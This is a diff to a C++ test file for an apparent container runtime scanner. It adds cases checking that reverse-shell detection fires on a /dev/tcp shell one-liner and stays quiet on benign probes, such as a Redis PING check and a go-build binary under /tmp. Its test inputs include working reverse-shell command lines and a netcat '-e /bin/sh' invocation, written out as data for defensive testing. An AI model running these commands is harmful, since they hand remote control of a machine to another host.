@@ -293,6 +293,8 @@ TEST_CASE("default rules: reverse shells", "[default_rules][scanner]") {
           Names{"reverse_shell_dev_tcp"});
     CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | sh >&5"})) ==
           Names{"reverse_shell_dev_tcp"});
+    CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "0<&196;exec 196<>/dev/tcp/10.0.0.1/80; sh <&196 >&196 2>&196"})) ==
+          Names{"reverse_shell_dev_tcp"});
     // a shell started by netcat, however the option was spelled
     Scene shell = exec_scene("/bin/sh", {"sh"});
     shell.parent = {4300, 1, "nc", "/usr/bin/nc", {"nc", "1.2.3.4", "4444", "-e/bin/sh"}};
@@ -311,6 +313,8 @@ TEST_CASE("default rules: reverse-shell near misses", "[default_rules][scanner][
     // a readiness probe that only opens /dev/tcp
     CHECK(fired(exec_scene("/bin/bash", {"bash", "-c", "</dev/tcp/localhost/5432"})).empty());
     CHECK(fired(exec_scene("/bin/bash", {"bash", "-c", "echo > /dev/tcp/db/5432 && echo up"})).empty());
+    CHECK(fired(exec_scene("/bin/bash", {"bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/6379 && echo PING >&3 && "
+                                                       "head -1 <&3 | grep PONG"})).empty());
     // a shell whose parent is an ordinary shell, and a shell under a service
     CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "date"})).empty());
     Scene under_ssh = exec_scene("/bin/bash", {"bash"});
@@ -407,6 +411,7 @@ TEST_CASE("default rules: programs that are not part of the image", "[default_ru
     CHECK(fired(exec_scene("/tmp/payload", {"./payload"})) == Names{"drift_exec_from_writable_dir"});
     CHECK(fired(exec_scene("/tmp/payload", {"./payload"}).on_host()).empty());
     CHECK(fired(exec_scene("/tmpfoo/app", {"app"})).empty());  // not /tmp
+    CHECK(fired(exec_scene("/tmp/go-build2914/b001/exe/main", {"main"})).empty());  // go run in a CI container
 
     Scene memfd = exec_scene("/proc/self/fd/3", {"x"});
     memfd.process.exe = "/memfd:x (deleted)";
